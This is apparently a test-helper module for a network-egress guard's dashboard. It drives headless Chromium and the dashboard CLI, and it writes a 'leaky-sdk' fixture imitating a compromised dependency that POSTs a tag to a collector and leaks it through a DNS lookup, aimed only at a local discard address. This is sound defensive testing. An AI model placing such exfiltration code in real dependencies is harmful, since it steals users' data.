// Shared pieces of the dashboard's browser tests: Debian's Chromium driven by playwright-core, a page opened on
// a dashboard URL with its console errors collected, real guard events from a small guarded function, and the
// real `perimeter dashboard --db` command. A test against a running `perimeter dev` (examples/shop) only needs
// launchBrowser() and openDashboard(browser, devServer.dashboardUrl).
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

export const REPO_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..', '..', '..');
export const CLI_BIN = path.join(REPO_ROOT, 'packages', 'cli', 'dist', 'bin.js');
export const REGISTER = path.join(REPO_ROOT, 'packages', 'perimeter', 'dist', 'register.js');
export const CHROMIUM = process.env.PERIMETER_CHROMIUM || '/usr/bin/chromium';
const NODE = process.env.PERIMETER_TEST_NODE || process.execPath;

/** The built pieces the tests run; a clear failure instead of a puzzling one when the build was skipped. */
export function assertBuilt() {
  const needed = [
    CLI_BIN,
    REGISTER,
    path.join(REPO_ROOT, 'packages', 'cli', 'dist', 'dashboard', 'app.js'),
    path.join(REPO_ROOT, 'packages', 'cli', 'dist', 'dev', 'store.js'),
  ];
  const missing = needed.filter((file) => !existsSync(file));
  if (missing.length > 0) {
    throw new Error(`not built: ${missing.map((f) => path.relative(REPO_ROOT, f)).join(', ')}; run \`npm run build\``);
  }
}

export async function launchBrowser() {
  if (!existsSync(CHROMIUM)) {
    throw new Error(`Chromium not found at ${CHROMIUM}; scripts/test-extra.mjs installs it (apt-get install chromium)`);
  }
  return chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--disable-dev-shm-usage',
    ],
  });
}

/**
 * Opens `url` in a fresh context and waits until the page is live (its event stream connected). Returns the page
 * and the problems seen so far and later: console errors (CSP violations land there too), uncaught page errors
 * and failed requests.
 */
export async function openDashboard(browser, url, { timeout = 15_000 } = {}) {
  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
  const page = await context.newPage();
  page.setDefaultTimeout(timeout);
  const problems = [];
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(`console: ${message.text()}`);
  });
  page.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
  page.on('requestfailed', (request) => {
    // The event stream is cut when the page navigates or closes; that is not a problem of the page.
    if (!request.url().includes('/api/stream')) problems.push(`request failed: ${request.url()}`);
  });
  await page.goto(url);
  await page.locator('[data-testid="live"][data-state="live"]').waitFor();
  return { page, problems, close: () => context.close() };
}

// ---------------------------------------------------------------------------------------------------------------
// Real events: a small function with a compromised dependency, run under the guard.

export function makeTempDir(prefix = 'perimeter-dashboard-') {
  return mkdtempSync(path.join(tmpdir(), prefix));
}

/**
 * Writes the fixture into `dir`: leaky-sdk (POSTs to a collector, and with `dns` looks up a name made of the
 * tag) and a handler that also makes one request of its own. Everything goes to 127.0.0.1:9 (discard; refused),
 * and DNS lookups are only made where they are blocked, so nothing leaves the machine.
 */
export function writeFixture(dir) {
  const sdk = path.join(dir, 'node_modules', 'leaky-sdk');
  mkdirSync(sdk, { recursive: true });
  writeFileSync(path.join(sdk, 'package.json'), '{"name":"leaky-sdk","version":"1.0.0","main":"index.js"}\n');
  writeFileSync(
    path.join(sdk, 'index.js'),
    `'use strict';
const dns = require('node:dns');
exports.report = async (tag, { lookup }) => {
  try { await fetch('http://127.0.0.1:9/collect?k=' + tag, { method: 'POST', body: 'x' }); } catch {}
  if (lookup) await new Promise((resolve) => dns.lookup(lookup, () => resolve()));
};
`,
  );
  writeFileSync(
    path.join(dir, 'handler.mjs'),
    `import sdk from 'leaky-sdk';
const [tag = 'one', lookup = ''] = process.argv.slice(2);
await sdk.report(tag, { lookup });
try { await fetch('http://127.0.0.1:9/orders/' + tag); } catch {}
`,
  );
}

/**
 * Runs the fixture's handler as function `name` under `policy` with the guard preloaded, and returns the events
 * it wrote (PERIMETER_EVENTS_FILE), parsed.
 */
export function runGuarded(dir, { name, policy, tag, lookup = '' }) {
  const policyFile = path.join(dir, `${name}.perimeter.json`);
  writeFileSync(policyFile, `${JSON.stringify(policy, null, 2)}\n`);
  const eventsFile = path.join(dir, `${name}-${tag}.jsonl`);
  rmSync(eventsFile, { force: true });
  const result = spawnSync(NODE, ['--import', REGISTER, path.join(dir, 'handler.mjs'), tag, lookup], {
    cwd: dir,
    env: {
      PATH: process.env.PATH,
      PERIMETER_FUNCTION: name,
      PERIMETER_POLICY: policyFile,
      PERIMETER_EVENTS_FILE: eventsFile,
    },
    encoding: 'utf8',
    timeout: 20_000,
  });
  if (result.status !== 0) {
    throw new Error(`guarded ${name} exited with ${result.status ?? result.signal}: ${result.stderr}`);
  }
  const text = existsSync(eventsFile) ? readFileSync(eventsFile, 'utf8') : '';
  const events = text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));
  if (events.length === 0) throw new Error(`guarded ${name} wrote no events; stderr: ${result.stderr}`);
  return { events, policyFile };
}

export async function openStore(file, options = {}) {
  const { EventStore } = await import(path.join(REPO_ROOT, 'packages', 'cli', 'dist', 'dev', 'store.js'));
  return EventStore.open(file, options);
}

// ---------------------------------------------------------------------------------------------------------------
// `perimeter dashboard --db <file> --port 0`

/** Starts the real command; resolves with its URL once it prints it. */
export function startDashboardCommand(dbFile, extraArgs = []) {
  const child = spawn(NODE, [CLI_BIN, 'dashboard', '--db', dbFile, '--port', '0', ...extraArgs], {
    cwd: REPO_ROOT,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  const exited = new Promise((resolve) => child.on('exit', (code, signal) => resolve(code ?? signal)));
  const stop = async () => {
    if (child.exitCode === null && child.signalCode === null) child.kill('SIGTERM');
    return exited;
  };
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      stop();
      reject(new Error(`perimeter dashboard printed no URL in 15 s; stdout: ${stdout}; stderr: ${stderr}`));
    }, 15_000);
    child.stderr.setEncoding('utf8').on('data', (chunk) => (stderr += chunk));
    child.stdout.setEncoding('utf8').on('data', (chunk) => {
      stdout += chunk;
      const match = /(http:\/\/\S+\/_perimeter\/)/.exec(stdout);
      if (match) {
        clearTimeout(timer);
        resolve({ url: match[1], stop, exited, output: () => ({ stdout, stderr }) });
      }
    });
    exited.then((code) => {
      clearTimeout(timer);
      reject(new Error(`perimeter dashboard exited with ${code}; stdout: ${stdout}; stderr: ${stderr}`));
    });
  });
}

/** Runs the CLI to completion (for its error cases). */
export function runCli(args) {
  return spawnSync(NODE, [CLI_BIN, ...args], { cwd: REPO_ROOT, encoding: 'utf8', timeout: 20_000 });
}
